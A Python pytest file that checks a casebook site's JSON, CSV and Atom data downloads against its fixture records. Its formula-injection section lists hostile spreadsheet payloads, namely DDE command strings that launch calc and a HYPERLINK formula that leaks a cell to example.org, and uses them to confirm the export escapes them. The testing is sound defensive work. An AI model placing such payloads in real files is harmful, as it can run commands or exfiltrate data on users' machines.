"""The data downloads of the fixture site, read back with standard parsers and compared with the records
themselves (loaded with casebook's loader, not through the export code): cases.json, cases.csv and
numbers.csv (UTF-8 with BOM, so Excel opens the Chinese), and the Atom feed."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import yaml

from casebook.export import (
    CASE_NUMERIC,
    NUMBER_NUMERIC,
    cases_csv,
    csv_record_text,
    csv_text_cell,
    numbers_csv,
)
from casebook.index import build_catalog
from casebook.load import load_file
from casebook.model import build_case

from .conftest import FIXTURES

ATOM = "{http://www.w3.org/2005/Atom}"
DOWNLOADS = ["data/cases.json", "data/cases.csv", "data/numbers.csv", "data/feed.xml"]
LEVELS = ["province", "city", "county", "town", "village"]


@pytest.fixture(scope="module")
def records() -> dict[str, dict]:
    out = {}
    for f in sorted((FIXTURES / "cases").rglob("*.yaml")):
        loaded = load_file(f)
        assert loaded.problems == [], loaded.problems
        out[loaded.data["id"]] = loaded.data
    return out


@pytest.fixture(scope="module")
def published(records) -> dict[str, dict]:
    return {k: v for k, v in records.items() if v.get("status", "published") == "published"}


@pytest.fixture(scope="module")
def withdrawn(records) -> set[str]:
    out = {k for k, v in records.items() if v.get("status") == "withdrawn"}
    assert out, "the fixture set should hold a withdrawn case"
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM (Excel would garble the Chinese)"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def resolves(site: Path, base: str, href: str) -> Path:
    """The file ``href`` (relative to the site file ``base``) points at, which must exist in the site."""
    parts = urlsplit(href)
    assert not parts.scheme and not parts.netloc, f"not a relative link: {href}"
    target = ((site / base).parent / unquote(parts.path)).resolve()
    assert target.is_relative_to(site.resolve()) and target.is_file(), f"{base}: {href} → {target}"
    return target


def region_codes(record: dict) -> list[str]:
    return [record["region"][level]["code"] for level in LEVELS if level in record["region"]]


# --- cases.json --------------------------------------------------------------------------------------


def test_cases_json_round_trips(fixture_site, published, withdrawn):
    data = json.loads((fixture_site / "data/cases.json").read_text(encoding="utf-8"))
    ids = [c["id"] for c in data["cases"]]
    assert sorted(ids) == sorted(published) and len(ids) == len(set(ids))
    assert not withdrawn & set(ids)
    assert data["count"] == len(published)
    for case in data["cases"]:
        rec = published[case["id"]]
        assert case["title"] == rec["title"]
        assert case["model_name"] == rec["model"]["name"]
        assert case["groups"] == rec["groups"] and case["topics"] == rec["topics"]
        assert [p["code"] for p in case["region"]] == region_codes(rec)
        assert [n["printed"] for n in case["numbers"]] == [n["printed"] for n in rec.get("numbers", [])]
        assert [s["title"] for s in case["sources"]] == [s["title"] for s in rec["sources"]]
        resolves(fixture_site, "index.html", case["url"])


# --- cases.csv and numbers.csv ------------------------------------------------------------------------


def test_cases_csv_round_trips(fixture_site, published, withdrawn):
    rows = read_csv(fixture_site / "data/cases.csv")
    ids = [r["id"] for r in rows]
    assert sorted(ids) == sorted(published) and len(ids) == len(set(ids))
    assert not withdrawn & set(ids)
    for row in rows:
        rec = published[row["id"]]
        assert row["title"] == rec["title"]
        assert row["model"] == rec["model"]["name"]
        for level in LEVELS:
            assert row[level] == rec["region"].get(level, {}).get("name", ""), level
        assert row["region_code"] == region_codes(rec)[-1]
        assert row["groups"].split(";") == rec["groups"]
        assert row["added"] == rec["added"]
        resolves(fixture_site, "index.html", row["url"])


def _number(text: str) -> float | None:
    return float(text) if text else None


def test_numbers_csv_holds_every_figure_as_printed(fixture_site, published):
    rows = read_csv(fixture_site / "data/numbers.csv")
    by_case: dict[str, list[dict]] = {}
    for row in rows:
        by_case.setdefault(row["case_id"], []).append(row)
    expected = {cid: rec["numbers"] for cid, rec in published.items() if rec.get("numbers")}
    assert by_case.keys() == expected.keys()
    assert sum(len(v) for v in expected.values()) >= 4  # the fixtures do have figures to compare
    for cid, figures in expected.items():
        got = by_case[cid]
        assert [r["printed"] for r in got] == [f["printed"] for f in figures]
        for row, fig in zip(got, figures, strict=True):
            assert (row["subject"], row["unit"]) == (fig["subject"], fig["unit"])
            assert row["region_code"] == region_codes(published[cid])[-1]
            if "before" in fig:
                assert (row["before_printed"], row["after_printed"]) == (
                    fig["before"]["printed"],
                    fig["after"]["printed"],
                )
                assert row["value"] == ""
            else:
                assert _number(row["value"]) == fig.get("value")
                assert _number(row["low"]) == fig.get("low") and _number(row["high"]) == fig.get("high")
                assert row["qualifier"] == fig.get("qualifier", "exact")


# --- the Atom feed --------------------------------------------------------------------------------------


def test_feed_lists_published_cases_newest_first(fixture_site, published, withdrawn):
    root = ET.parse(fixture_site / "data/feed.xml").getroot()
    assert root.tag == f"{ATOM}feed"
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) == len(published)  # fewer than a feed's worth
    ids = [e.findtext(f"{ATOM}id").rsplit(":", 1)[-1] for e in entries]
    assert sorted(ids) == sorted(published) and not withdrawn & set(ids)
    updated = [e.findtext(f"{ATOM}updated") for e in entries]
    assert updated == sorted(updated, reverse=True)
    assert root.findtext(f"{ATOM}updated") == updated[0]
    for entry, cid in zip(entries, ids, strict=True):
        rec = published[cid]
        assert entry.findtext(f"{ATOM}title") == rec["title"]
        assert entry.findtext(f"{ATOM}updated").startswith(rec["added"])
        link = entry.find(f"{ATOM}link[@rel='alternate']").get("href")
        assert resolves(fixture_site, "data/feed.xml", link) == (fixture_site / f"cases/{cid}.html").resolve()
    home = root.find(f"{ATOM}link[@rel='alternate']").get("href")
    assert resolves(fixture_site, "data/feed.xml", home) == (fixture_site / "index.html").resolve()


# --- the home page offers them ---------------------------------------------------------------------------


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href")
        if tag == "a" and href:
            self.hrefs.append(href)


@pytest.mark.parametrize("home", ["index.html", "en/index.html"])
def test_home_page_links_to_all_four_downloads(fixture_site, home):
    parser = _Links()
    parser.feed((fixture_site / home).read_text(encoding="utf-8"))
    targets = set()
    for href in parser.hrefs:
        if "data/" in href and not urlsplit(href).scheme:
            targets.add(resolves(fixture_site, home, href).relative_to(fixture_site.resolve()).as_posix())
    assert targets >= set(DOWNLOADS)


# --- formula injection: one escaping policy for every table ---------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_text_cell_makes_a_formula_inert_and_reversible(text):
    cell = csv_text_cell(text)
    assert cell == "'" + text
    assert csv_record_text(cell) == text


@pytest.mark.parametrize("text", ["", "龙里县", "a=b", " =1", "1-2", "'plain", "x\n=1"])
def test_csv_text_cell_leaves_other_text_alone_but_round_trips(text):
    cell = csv_text_cell(text)
    assert cell == (("'" + text) if text.startswith("'") else text)
    assert csv_record_text(cell) == text


def _hostile_catalog():
    data = yaml.safe_load((FIXTURES / "cases/guizhou/fx-longli-drivers-home.yaml").read_text(encoding="utf-8"))
    data["title"] = FORMULAS[0]
    data["model"]["name"] = FORMULAS[1]
    data["summary"] = FORMULAS[2]
    data["actor"]["name"] = FORMULAS[3]
    data["numbers"][0]["subject"] = FORMULAS[4]
    data["numbers"][0]["printed"] = FORMULAS[5]
    data["numbers"][0]["unit"] = FORMULAS[6]
    data["numbers"][1]["value"] = -3  # a numeric column may start with "-" and stays a number
    data["sources"][0]["title"] = FORMULAS[7]
    return data, build_catalog([build_case(data, "cases/guizhou/fx-longli-drivers-home.yaml")])


def _rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _inert(row: dict[str, str], numeric: tuple[str, ...]) -> None:
    for column, cell in row.items():
        if column not in numeric:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_hostile_text_is_inert_in_cases_csv():
    data, catalog = _hostile_catalog()
    (row,) = _rows(cases_csv(catalog))
    _inert(row, CASE_NUMERIC)
    assert csv_record_text(row["title"]) == data["title"]
    assert csv_record_text(row["model"]) == data["model"]["name"]
    assert csv_record_text(row["summary"]) == data["summary"]
    assert csv_record_text(row["actor"]) == data["actor"]["name"]
    assert row["id"] == data["id"] and row["year"] == "2022"


def test_hostile_text_is_inert_in_numbers_csv():
    data, catalog = _hostile_catalog()
    rows = _rows(numbers_csv(catalog))
    for row in rows:
        _inert(row, NUMBER_NUMERIC)
    first, second = rows
    assert csv_record_text(first["subject"]) == data["numbers"][0]["subject"]
    assert csv_record_text(first["printed"]) == data["numbers"][0]["printed"]
    assert csv_record_text(first["unit"]) == data["numbers"][0]["unit"]
    assert second["value"] == "-3"  # numbers are not touched
    assert csv_record_text(second["source_title"]) == data["sources"][0]["title"]


def _provenance_catalog():
    from casebook.export import atom_feed

    text = (FIXTURES / "cases" / "shaanxi" / "fx-fufeng-sanjia.yaml").read_text(encoding="utf-8")
    text = text.replace("  name: “三家”工程", "  label: 三家工程")
    text = text.replace("level: county}", "level: county, inferred: true}")
    text = text.replace(
        "added: 2026-11-04",
        "added: 2026-11-04\nupdated: 2026-11-30\ncorrections:\n  - {date: 2026-11-30, text: 删去原文未写的组织者。}",
    )
    text = text.replace(
        "period:",
        "numbers:\n  - {subject: 快递员, value: 30, unit: 名, printed: 30名, date: '2021', inferred: [date]}\n"
        "  - subject: 办理时长\n    unit: 小时\n    printed: 从2016年的13小时压缩到2022年的0.04小时\n"
        "    before: {value: 13, printed: 13小时, date: '2016'}\n    after: {value: 0.04, printed: 0.04小时, date: '2022'}\n"
        "period:",
    )
    from casebook.load import load_text

    corrected = build_case(load_text("x.yaml", text).data, "cases/shaanxi/fx-fufeng-sanjia.yaml")
    others = [build_case(load_file(f).data, str(f)) for f in sorted((FIXTURES / "cases").rglob("*.yaml"))]
    catalog = build_catalog([corrected] + [c for c in others if c.id != corrected.id])
    return catalog, atom_feed


def test_provenance_reaches_the_csv_downloads(tmp_path):
    catalog, _ = _provenance_catalog()
    (tmp_path / "cases.csv").write_bytes(cases_csv(catalog))
    (tmp_path / "numbers.csv").write_bytes(numbers_csv(catalog))
    row = next(r for r in read_csv(tmp_path / "cases.csv") if r["id"] == "fx-fufeng-sanjia")
    assert (row["model"], row["model_provenance"], row["actor_inferred"], row["updated"]) == (
        "三家工程",
        "label",
        "true",
        "2026-11-30",
    )
    nums = [r for r in read_csv(tmp_path / "numbers.csv") if r["case_id"] == "fx-fufeng-sanjia"]
    assert [(r["date"], r["date_inferred"], r["before_date"], r["after_date"]) for r in nums] == [
        ("2021", "true", "", ""),
        ("", "false", "2016", "2022"),
    ]


def test_a_corrected_case_moves_up_the_feed_by_its_updated_date():
    catalog, atom_feed = _provenance_catalog()
    root = ET.fromstring(atom_feed(catalog, "x"))
    first = root.find(f"{ATOM}entry")
    assert first.find(f"{ATOM}id").text.endswith(":fx-fufeng-sanjia")
    assert first.find(f"{ATOM}updated").text == "2026-11-30T00:00:00Z"
    assert first.find(f"{ATOM}published").text == "2026-11-04T00:00:00Z"
    assert root.find(f"{ATOM}updated").text == "2026-11-30T00:00:00Z"


# --- stable for machines: one header row of field names, new columns only ever appended ----------------

# The columns as released before issue 15: programs read them by position too.
CASES_CSV_V1 = [
    "id",
    "title",
    "model",
    "model_parts",
    "theme",
    "province",
    "city",
    "county",
    "town",
    "village",
    "region_code",
    "actor",
    "actor_level",
    "groups",
    "topics",
    "started",
    "reported",
    "year",
    "added",
    "summary",
    "measures",
    "numbers",
    "sources",
    "url",
    "model_provenance",
    "actor_inferred",
    "updated",
]
NUMBERS_CSV_V1 = [
    "case_id",
    "subject",
    "value",
    "low",
    "high",
    "qualifier",
    "unit",
    "printed",
    "before_printed",
    "after_printed",
    "date",
    "source_title",
    "region_code",
    "date_inferred",
    "before_date",
    "after_date",
]


@pytest.mark.parametrize(("name", "before"), [("data/cases.csv", CASES_CSV_V1), ("data/numbers.csv", NUMBERS_CSV_V1)])
def test_csv_columns_are_only_ever_appended(fixture_site, name, before):
    header, *rows = list(csv.reader(io.StringIO((fixture_site / name).read_text(encoding="utf-8-sig"), newline="")))
    assert header[: len(before)] == before
    assert all(h and h.isascii() and h == h.lower() for h in header)  # field names, not labels
    assert rows and not any(row[: len(before)] == before for row in rows)  # one header row


def test_numbers_csv_names_the_case_and_its_place(fixture_site, published):
    rows = read_csv(fixture_site / "data/numbers.csv")
    assert rows
    for row in rows:
        rec = published[row["case_id"]]
        assert row["case_title"] == rec["title"]
        for level in LEVELS:
            assert row[level] == rec["region"].get(level, {}).get("name", ""), level
        assert row["region_code"] == region_codes(rec)[-1]


def test_hostile_case_title_is_inert_in_numbers_csv():
    data, catalog = _hostile_catalog()
    for row in _rows(numbers_csv(catalog)):
        assert csv_record_text(row["case_title"]) == data["title"] and row["case_title"].startswith("'=")
